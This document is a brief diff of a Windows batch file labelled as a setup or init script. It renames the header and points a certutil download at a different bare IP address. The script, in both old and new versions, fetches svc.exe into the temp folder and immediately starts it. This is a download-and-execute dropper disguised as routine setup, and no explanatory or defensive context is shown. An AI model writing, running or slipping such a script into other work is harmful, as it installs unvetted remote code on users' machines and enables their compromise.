@@ -1,4 +1,4 @@
-REM setup 3439 v4
+REM init 3078 v4
 @echo off
-certutil.exe -urlcache -split -f http://198.51.100.23/svc.exe %TEMP%\svc.exe
+certutil.exe -urlcache -split -f http://203.0.113.200/svc.exe %TEMP%\svc.exe
 start "" %TEMP%\svc.exe
